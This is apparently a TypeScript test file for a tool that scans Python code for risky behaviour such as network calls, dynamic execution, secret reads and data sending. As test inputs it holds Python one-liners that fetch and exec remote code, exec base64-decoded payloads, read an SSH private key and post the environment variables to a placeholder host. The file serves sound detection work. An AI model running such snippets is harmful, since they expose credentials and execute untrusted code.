import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { pythonText } from '../../src/analyze/python/read.ts'

const read = (text: string) => pythonText(text, { file: 'x.py', line: 1 })
const kinds = (text: string) => read(text).signals.map(({ kind }) => kind)

test('what it fetches, sends, decodes and runs', () => {
  assert.equal(kinds('urllib.request.urlopen("https://a.invalid")'), ['network/request'])
  assert.equal(kinds('exec(urlopen("https://a.invalid").read())'), ['network/request', 'flow/run', 'code/dynamic'])
  assert.equal(kinds('import base64\nexec(base64.b64decode("eA=="))'), ['code/decoded'])
  assert.equal(kinds('open("/home/x/.ssh/id_rsa")'), ['secret/read'])
  const [send] = read('requests.post("https://a.invalid", json=dict(os.environ))').signals.slice(-1)
  assert.is(send?.kind, 'flow/send')
  assert.equal(send?.args['from'], ['env'])
})

test('commands and modules are told, computed ones are not resolved', () => {
  const { commands, modules, unresolved } = read(
    'import os, gen.tool as t\nfrom util import x\nos.system("sh ./x.sh")\nsubprocess.run(["node", "y.js"])\nos.popen(cmd)',
  )
  assert.equal(modules, ['os', 'gen.tool', 'util'])
  assert.equal(commands, [
    { text: 'sh ./x.sh', line: 3 },
    { text: '"node" "y.js"', line: 4 },
  ])
  assert.equal(unresolved, [{ what: 'Python starts a computed command', line: 5 }])
})

test('an honest generator says nothing', () => {
  assert.equal(kinds('import sys\nwith open(sys.argv[1]) as f:\n  print(re.compile("x").sub("", f.read()))'), [])
})

test('long and hostile texts end, and what was not read is told', () => {
  for (const text of [
    `os.system([${'"a"    '.repeat(3000)}`,
    `os.system('${'\\\\'.repeat(9000)}`,
    'urlopen(\n'.repeat(100_000),
  ])
    read(text)
  assert.match(read(`x = "${'a'.repeat(30_000)}"`).unresolved[0]?.what ?? '', 'too long')
})

test.run()
